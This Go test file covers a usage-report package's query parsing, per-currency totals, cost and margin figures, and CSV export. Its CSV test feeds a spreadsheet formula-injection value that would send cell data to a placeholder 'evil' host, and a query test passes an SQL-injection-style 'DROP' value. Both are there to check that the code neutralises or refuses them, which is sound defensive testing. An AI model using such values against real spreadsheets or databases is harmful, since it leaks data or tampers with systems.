package usage

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"net/url"
	"strings"
	"testing"
	"time"

	"mediagen/internal/apierr"
	"mediagen/internal/money"
	"mediagen/internal/store"
)

var now = time.Date(2026, 11, 25, 20, 30, 0, 0, time.UTC)

func TestParseQueryAcceptsDatesAndWholeHours(t *testing.T) {
	cases := []struct {
		query    string
		from, to time.Time
		groups   []string
	}{
		{"from=2026-11-01&to=2026-11-30&group_by=day,alias", time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), []string{"day", "alias"}},
		{"from=2026-11-01T13:00:00Z&to=2026-11-01T15:00:00%2B01:00&group_by=hour", time.Date(2026, 11, 1, 13, 0, 0, 0, time.UTC), time.Date(2026, 11, 1, 14, 0, 0, 0, time.UTC), []string{"hour"}},
		{"from=2026-11-25", time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 25, 21, 0, 0, 0, time.UTC), nil},
		{"from=2025-11-25&to=2026-11-25", time.Date(2025, 11, 25, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC), nil}, // 366 days
	}
	for _, c := range cases {
		v, _ := url.ParseQuery(c.query)
		q, err := ParseQuery(v, AdminGroups, true, now)
		if err != nil {
			t.Errorf("%s: %v", c.query, err)
			continue
		}
		if !q.From.Equal(c.from) || !q.To.Equal(c.to) || strings.Join(q.GroupBy, ",") != strings.Join(c.groups, ",") {
			t.Errorf("%s: %+v", c.query, q)
		}
	}
}

func TestParseQueryRefusesWithParam(t *testing.T) {
	cases := []struct{ query, param string }{
		{"to=2026-11-02", "from"},
		{"from=yesterday", "from"},
		{"from=2026-11-01T13:30:00Z", "from"},
		{"from=2026-11-01&to=2026-11-01T12:00:01Z", "to"},
		{"from=2026-11-02&to=2026-11-01", "to"},
		{"from=2026-11-01T05:00:00Z&to=2026-11-01T05:00:00Z", "to"},
		{"from=2025-01-01&to=2026-11-01", "to"},               // over 366 days
		{"from=2026-10-01&to=2026-11-02&group_by=hour", "to"}, // over 31 days of hours
		{"from=2026-11-01&group_by=week", "group_by"},
		{"from=2026-11-01&group_by=alias,alias", "group_by"},
		{"from=2026-11-01&group_by=day,hour", "group_by"},
		{"from=2026-11-01&group_by=tenant%3BDROP", "group_by"},
		{"from=2026-11-01&colour=red", "colour"},
		{"from=2026-11-01&from=2026-11-02", "from"},
	}
	for _, c := range cases {
		v, _ := url.ParseQuery(c.query)
		_, err := ParseQuery(v, AdminGroups, true, now)
		var ae *apierr.Error
		if !errors.As(err, &ae) || ae.Kind != apierr.KindInvalid || ae.Param != c.param {
			t.Errorf("%s: %v, want a 400 with param %s", c.query, err, c.param)
		}
	}
}

func TestParseQueryKeepsKeysToTheirGroups(t *testing.T) {
	for _, q := range []string{"from=2026-11-01&group_by=tenant", "from=2026-11-01&group_by=key", "from=2026-11-01&group_by=upstream",
		"from=2026-11-01&key=key_other", "from=2026-11-01&tenant=other", "from=2026-11-01&format=csv"} {
		v, _ := url.ParseQuery(q)
		if _, err := ParseQuery(v, KeyGroups, false, now); err == nil {
			t.Errorf("%s: accepted for a key", q)
		}
	}
}

type fakeStore struct {
	rows []store.UsageRow
	got  store.UsageQuery
}

func (f *fakeStore) UsageReport(_ context.Context, q store.UsageQuery) ([]store.UsageRow, error) {
	f.got = q
	return f.rows, nil
}

func TestRunFoldsOutcomesAndTotalsPerCurrency(t *testing.T) {
	day := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	fig := func(n int64, charged money.Micros) store.UsageFigures {
		return store.UsageFigures{Count: n, Charged: charged, Reserved: charged + 5, Refunded: 5, SecondsMicros: 1_500_000}
	}
	f := &fakeStore{rows: []store.UsageRow{
		{Bucket: day, Alias: "a", Currency: "EUR", Outcome: store.OutcomeSucceeded, UsageFigures: fig(1, 7)},
		{Bucket: day, Alias: "a", Currency: "USD", Outcome: store.OutcomeFailed, UsageFigures: fig(2, 0)},
		{Bucket: day, Alias: "a", Currency: "USD", Outcome: store.OutcomeSucceeded, UsageFigures: fig(3, 30)},
		{Bucket: day, Alias: "b", Currency: "USD", Outcome: store.OutcomeExpired, UsageFigures: fig(1, 0)},
	}}
	rep, err := Run(t.Context(), f, Query{From: day, To: day.Add(24 * time.Hour), GroupBy: []string{"day", "alias"}, Key: "k"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if f.got.KeyID != "k" || strings.Join(f.got.GroupBy, ",") != "day,alias,outcome" {
		t.Errorf("store query %+v", f.got)
	}
	if len(rep.Data) != 3 {
		t.Fatalf("rows %+v", rep.Data)
	}
	usd := rep.Data[1]
	if usd.Day != "2026-11-01" || usd.Alias != "a" || usd.Currency != "USD" || usd.Count != 5 || usd.Succeeded != 3 || usd.Failed != 2 || usd.Charged != 30 || usd.Seconds != 3_000_000 {
		t.Errorf("folded row %+v", usd)
	}
	if len(rep.Totals) != 2 || rep.Totals[0].Currency != "EUR" || rep.Totals[1].Count != 6 || rep.Totals[1].Expired != 1 || rep.Totals[1].Charged != 30 {
		t.Errorf("totals %+v", rep.Totals)
	}
}

func TestCSVNeutralisesFormulasAndEscapes(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+1", "@x", "-x", "\tTAB", "\rCR", `a,"b"` + "\nc", "plain"}
	rep := Report{GroupBy: []string{"key", "alias"}}
	for _, h := range hostile {
		rep.Data = append(rep.Data, Row{Key: "key_1", KeyName: h, Alias: h, Currency: "USD",
			Figures: Figures{Count: 1, Succeeded: 1, Charged: 1_250_000, Reserved: 2_000_000, Refunded: 750_000, Seconds: 5_042_000}})
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), "key,key_name,alias,currency,count,succeeded,failed,expired,seconds,tokens,characters,reserved,charged,overage,refunded\r\n") {
		t.Fatalf("header: %q", buf.String())
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180: %v", err)
	}
	for i, h := range hostile {
		rec := recs[i+1]
		want := h
		if strings.ContainsAny(h[:1], "=+-@\t\r") {
			want = "'" + h
		}
		// With CRLF line ends encoding/csv writes a newline in a field as \r\n (read back
		// as \n) and drops a lone \r; the neutralising quote is decided before.
		if want = strings.ReplaceAll(want, "\r", ""); rec[1] != want {
			t.Errorf("key name %q came out as %q, want %q", h, rec[1], want)
		}
		if rec[2] != rec[1] {
			t.Errorf("alias %q came out as %q", h, rec[2])
		}
		if strings.Join(rec[3:], ",") != "USD,1,1,0,0,5.042,0,0,2,1.25,0,0.75" {
			t.Errorf("figures %v", rec[3:])
		}
	}
}

func TestRunAddsCostAndMarginOnlyForTheOperator(t *testing.T) {
	day := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	row := func(upstream, costCurrency, outcome string, n int64, charged, cost money.Micros) store.UsageRow {
		return store.UsageRow{Upstream: upstream, Currency: "USD", CostCurrency: costCurrency, Outcome: outcome,
			UsageFigures: store.UsageFigures{Count: n, Charged: charged, Reserved: charged, Cost: cost}}
	}
	rows := []store.UsageRow{
		row("ark", "USD", store.OutcomeFailed, 1, 0, 0),
		row("ark", "USD", store.OutcomeSucceeded, 2, 1_000_000, 300_000),
		row("free", "", store.OutcomeSucceeded, 1, 400_000, 0),
		row("oai", "", store.OutcomeSucceeded, 1, 100_000, 0),
		row("oai", "USD", store.OutcomeSucceeded, 1, 100_000, 250_000), // sold below cost
		row("yen", "JPY", store.OutcomeSucceeded, 1, 100_000, 9_000_000),
	}
	q := Query{From: day, To: day.Add(24 * time.Hour), GroupBy: []string{"upstream"}}
	tenant, err := Run(t.Context(), &fakeStore{rows: rows}, q, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(tenant.Data) != 4 || tenant.Data[0].Cost != nil || tenant.Data[2].Count != 2 || strings.Join(tenant.Columns(), ",") != strings.Join(Columns(q.GroupBy), ",") {
		t.Fatalf("without Cost the rows must not split or carry a cost: %+v", tenant.Data)
	}
	q.Cost = true
	rep, err := Run(t.Context(), &fakeStore{rows: rows}, q, nil)
	if err != nil {
		t.Fatal(err)
	}
	type got struct {
		upstream       string
		count          int64
		known          bool
		amount, margin string
	}
	show := func(r Row) got {
		g := got{upstream: r.Upstream, count: r.Count, known: r.Cost.Known, amount: "-", margin: "-"}
		if r.Cost.Amount != nil {
			g.amount = r.Cost.Amount.String()
		}
		if r.Cost.Margin != nil {
			g.margin = r.Cost.Margin.String()
		}
		return g
	}
	want := []got{
		{"ark", 3, true, "0.3", "0.7"},
		{"free", 1, false, "-", "-"},
		{"oai", 1, false, "-", "-"},
		{"oai", 1, true, "0.25", "-0.15"},
		{"yen", 1, true, "9", "-"}, // a cost in another currency has no margin
	}
	if len(rep.Data) != len(want) {
		t.Fatalf("rows %+v", rep.Data)
	}
	for i, w := range want {
		if g := show(rep.Data[i]); g != w {
			t.Errorf("row %d: %+v, want %+v", i, g, w)
		}
	}
	// Totals per currency and cost currency: unknown, JPY, USD.
	var totals []got
	for _, r := range rep.Totals {
		totals = append(totals, show(r))
	}
	wantTotals := []got{{"", 2, false, "-", "-"}, {"", 1, true, "9", "-"}, {"", 4, true, "0.55", "0.55"}}
	if len(totals) != 3 || totals[0] != wantTotals[0] || totals[1] != wantTotals[1] || totals[2] != wantTotals[2] {
		t.Errorf("totals %+v, want %+v", totals, wantTotals)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if h := strings.Join(recs[0], ","); !strings.HasSuffix(h, ",refunded,cost_currency,cost,margin") {
		t.Errorf("header %s", h)
	}
	for i, w := range []string{"USD,0.3,0.7", ",unknown,unknown", ",unknown,unknown", "USD,0.25,-0.15", "JPY,9,"} {
		rec := recs[i+1]
		if g := strings.Join(rec[len(rec)-3:], ","); g != w {
			t.Errorf("csv row %d cost cells %s, want %s (a negative margin stays a number)", i, g, w)
		}
	}
}
